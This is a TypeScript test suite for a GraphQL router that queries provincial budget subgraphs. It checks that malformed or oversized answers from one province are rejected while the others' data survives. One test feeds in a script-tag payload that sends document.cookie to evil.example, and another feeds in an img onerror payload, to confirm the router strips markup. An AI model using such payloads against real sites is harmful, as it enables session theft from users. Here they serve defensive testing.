import { readFile } from "node:fs/promises";
import type { GraphQLFormattedError } from "graphql";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { createProvinceRouter, type ProvinceRouter } from "./create-province-router.ts";
import { executeOn, type FakeProvince, type Misbehaviour, startFakeProvince } from "./testing/start-fake-province.ts";

// Three provinces on the real contract; Long An misbehaves in every way a province can, one at a time.
const contractSdl = await readFile(new URL("../../../subgraphs/province/schema.graphql", import.meta.url), "utf8");

function provinceData(id: string, amountVnd: number, taskTitle: string) {
  return {
    id,
    budgets: [
      { year: 2024, phase: "ALLOCATED", fundingSource: "LOCAL", amountVnd },
      { year: 2024, phase: "DISBURSED", fundingSource: null, amountVnd: amountVnd - 1_000_000 },
    ],
    tasks: [{ title: taskTitle, status: "ONGOING", target: { quantity: 15, unit: "doanh nghiệp" } }],
  };
}
const lạngSơnData = provinceData("lang-son", 42_100_000_000, "Hỗ trợ doanh nghiệp đổi mới công nghệ");
const longAnData = provinceData("long-an", 41_612_000_000, "Ứng dụng công nghệ cao trong nông nghiệp");
const bắcGiangData = provinceData("bac-giang", 55_300_000_000, "Xây dựng thương hiệu vải thiều");

// What @apollo/gateway asks the province subgraph for `provinces { budgets(year: $year) {…} tasks {…} }`: no id, no __typename.
const query = `query Fetch__province__1($representations: [_Any!]!, $year: Int) {
  _entities(representations: $representations) {
    ... on Province { budgets(year: $year) { year phase fundingSource amountVnd } tasks { title status target { quantity unit } } }
  }
}`;
const ids = ["lang-son", "long-an", "bac-giang"];
const expectedOf = ({ id: _, ...figures }: ReturnType<typeof provinceData>) => figures;

let lạngSơn: FakeProvince;
let longAn: FakeProvince;
let bắcGiang: FakeProvince;
let router: ProvinceRouter;
const MAX_ANSWER_BYTES = 256 * 1024;

beforeAll(async () => {
  [lạngSơn, longAn, bắcGiang] = await Promise.all([
    startFakeProvince({ answer: executeOn(contractSdl, lạngSơnData) }),
    startFakeProvince({ answer: executeOn(contractSdl, longAnData) }),
    startFakeProvince({ answer: executeOn(contractSdl, bắcGiangData) }),
  ]);
  router = createProvinceRouter({
    provinces: [
      { id: "lang-son", name: "Lạng Sơn", url: lạngSơn.url },
      { id: "long-an", name: "Long An", url: longAn.url },
      { id: "bac-giang", name: "Bắc Giang", url: bắcGiang.url },
    ],
    contractSdl,
    maxAnswerBytes: MAX_ANSWER_BYTES,
    timeoutMs: 5000,
  });
});
afterEach(() => {
  longAn.misbehave(undefined);
  for (const province of [lạngSơn, longAn, bắcGiang]) province.requests.length = 0;
});
afterAll(async () => {
  await Promise.all([lạngSơn, longAn, bắcGiang].map((p) => p?.stop()));
});

async function askAll(): Promise<{ data?: { _entities: unknown[] }; errors?: GraphQLFormattedError[] }> {
  const representations = ids.map((id) => ({ __typename: "Province", id }));
  return (await router.routeEntities({ query, variables: { representations, year: 2024 } })) as never;
}

function invalidAnswer(reason: string | RegExp) {
  const matches = typeof reason === "string" ? reason : expect.stringMatching(reason);
  return {
    message: typeof reason === "string" ? `Province Long An (long-an) sent an answer that breaks the contract: ${reason}` : expect.stringMatching(/^Province Long An \(long-an\) sent an answer that breaks the contract: /),
    path: ["_entities", 1],
    extensions: { code: "PROVINCE_INVALID_ANSWER", province: { id: "long-an", name: "Long An" }, reason: matches },
  };
}

/** The first entity of the answer, to edit. */
const entityOf = (answer: Parameters<Misbehaviour>[0]) => answer.data!._entities![0] as Record<string, any>;

describe("Long An answers something the contract does not allow; Lạng Sơn and Bắc Giang keep every figure", () => {
  it("all three honest: every figure arrives, and the router's private aliases are gone", async () => {
    const { data, errors } = await askAll();
    expect(errors).toBeUndefined();
    expect(data?._entities).toEqual([expectedOf(lạngSơnData), expectedOf(longAnData), expectedOf(bắcGiangData)]);
    // The client's variable reached every province.
    for (const province of [lạngSơn, longAn, bắcGiang]) expect(province.requests.map((r) => r.variables?.year)).toEqual([2024]);
  });

  const cases: [string, Misbehaviour, string | RegExp][] = [
    ["a string where the contract has Vnd", (a) => void (entityOf(a).budgets[1].amountVnd = "41,6 tỷ đồng"), 'budgets[1].amountVnd: "41,6 tỷ đồng" is not a Vnd (a whole number of đồng)'],
    ["a Float amount", (a) => void (entityOf(a).budgets[0].amountVnd = 41612000000.5), "budgets[0].amountVnd: 41612000000.5 is not a Vnd (a whole number of đồng)"],
    ["an Int that is not a whole number", (a) => void (entityOf(a).budgets[0].year = 2024.5), "budgets[0].year: 2024.5 is not an Int (a whole number within ±2^31)"],
    ["an unknown enum value", (a) => void (entityOf(a).tasks[0].status = "CANCELLED"), 'tasks[0].status: "CANCELLED" is not a TaskStatus (PROPOSED, PLANNED, ONGOING, COMPLETED)'],
    ["a string where an object is expected", (a) => void (entityOf(a).tasks[0].target = "15 doanh nghiệp"), 'tasks[0].target: "15 doanh nghiệp" is not an object of type Quantity'],
    ["an object where a list is expected", (a) => void (entityOf(a).tasks = { title: "x" }), "tasks: an object is not a list ([Task!])"],
    ["null in a non-null field", (a) => void (entityOf(a).tasks[0].title = null), "tasks[0].title: null where the contract has String!"],
    ["a field the query did not ask for", (a) => void (entityOf(a).name = "Lạng Sơn"), "name: a field the query does not select"],
    ["a selected field left out", (a) => void delete entityOf(a).budgets[0].phase, "budgets[0].phase: missing, though the query selects it"],
    [
      "another province's id for Long An's representation (a forged id)",
      (a) => {
        const entity = entityOf(a);
        for (const key in entity) if (entity[key] === "long-an") entity[key] = "lang-son";
        entity.tasks[0].title = "Forged";
      },
      'id: "lang-son" where "long-an" was asked for',
    ],
    [
      "another __typename",
      (a) => {
        const entity = entityOf(a);
        for (const key in entity) if (entity[key] === "Province") entity[key] = "SourceDocument";
      },
      '__typename: "SourceDocument" where the type is Province',
    ],
    ["one entity too many", (a) => void a.data!._entities!.push(entityOf(a)), "the answer has 2 entities for 1 representations"],
    ["no entity", (a) => void a.data!._entities!.pop(), "the answer has 0 entities for 1 representations"],
    ["no _entities list and no error", () => ({ json: { data: { provinces: [] } } }), "the answer has no _entities list"],
    ["errors that are not a list", (a) => ({ json: { ...a, errors: "<b>none</b>" } }), "the answer's errors are not a list"],
    ["HTML with status 200", () => ({ text: "<html><body>Maintenance</body></html>" }), "the answer is not GraphQL JSON"],
    ["an answer larger than the cap", () => ({ streamBytes: 20 * 1024 * 1024 }), `the answer is larger than ${MAX_ANSWER_BYTES} bytes`],
  ];

  it.each(cases)("%s", async (_, misbehaviour, reason) => {
    longAn.misbehave(misbehaviour);
    const { data, errors } = await askAll();
    expect(data?._entities).toEqual([expectedOf(lạngSơnData), null, expectedOf(bắcGiangData)]);
    expect(errors).toEqual([invalidAnswer(reason)]);
  });

  it("a too-large answer is aborted while it arrives, not read to its end", async () => {
    longAn.misbehave(() => ({ streamBytes: 200 * 1024 * 1024 }));
    const started = performance.now();
    const { errors } = await askAll();
    expect(errors).toEqual([invalidAnswer(`the answer is larger than ${MAX_ANSWER_BYTES} bytes`)]);
    // 200 MiB would take seconds to send and a lot of memory to hold; the router hung up after 256 KiB.
    expect(performance.now() - started).toBeLessThan(2000);
    await expect.poll(() => longAn.abortedStreams()).toBeGreaterThan(0);
  });

  it("Long An's error with markup and a forged code and province reaches the client as plain text, with the router's code and province; its figures stay", async () => {
    longAn.misbehave((answer) => {
      entityOf(answer).budgets = null;
      answer.errors = [
        {
          message: '<script>fetch("https://evil.example/?c="+document.cookie)</script>Sổ ngân sách\u0000 đang khóa <b>(bảo trì)</b>',
          path: ["_entities", 0, "budgets"],
          locations: [{ line: 3, column: 23 }],
          extensions: { code: "PROVINCE_UNAVAILABLE", province: { id: "lang-son", name: "Lạng Sơn" }, stacktrace: ["at /srv/long-an/src/budgets.ts:12"] },
        },
      ];
    });
    const { data, errors } = await askAll();
    expect(data?._entities).toEqual([expectedOf(lạngSơnData), { ...expectedOf(longAnData), budgets: null }, expectedOf(bắcGiangData)]);
    expect(errors).toEqual([
      {
        message: 'fetch("https://evil.example/?c="+document.cookie) Sổ ngân sách đang khóa (bảo trì)',
        path: ["_entities", 1, "budgets"],
        extensions: { code: "PROVINCE_ERROR", province: { id: "long-an", name: "Long An" } },
      },
    ]);
  });

  it("a refusal of the whole query with markup: PROVINCE_UNAVAILABLE, the province's words as plain text", async () => {
    longAn.misbehave(() => ({ json: { errors: [{ message: '<img src=x onerror="alert(1)">Cannot query field "budgets"' }] } }));
    const { errors } = await askAll();
    expect(errors).toEqual([
      expect.objectContaining({ path: ["_entities", 1], extensions: { code: "PROVINCE_UNAVAILABLE", province: { id: "long-an", name: "Long An" }, reason: 'the province refused the query: Cannot query field "budgets"' } }),
    ]);
  });

  it("refuses, asking no province, a query the contract does not allow (no answer to it could be checked)", async () => {
    const representations = ids.map((id) => ({ __typename: "Province", id }));
    const result = await router.routeEntities({ query: "query($representations: [_Any!]!) { _entities(representations: $representations) { ... on Province { secret } } }", variables: { representations } });
    expect(result).toEqual({ errors: [expect.objectContaining({ message: expect.stringContaining('Cannot query field "secret" on type "Province"'), extensions: { code: "UNROUTABLE_OPERATION" } })] });
    expect(longAn.requests).toEqual([]);
  });
});
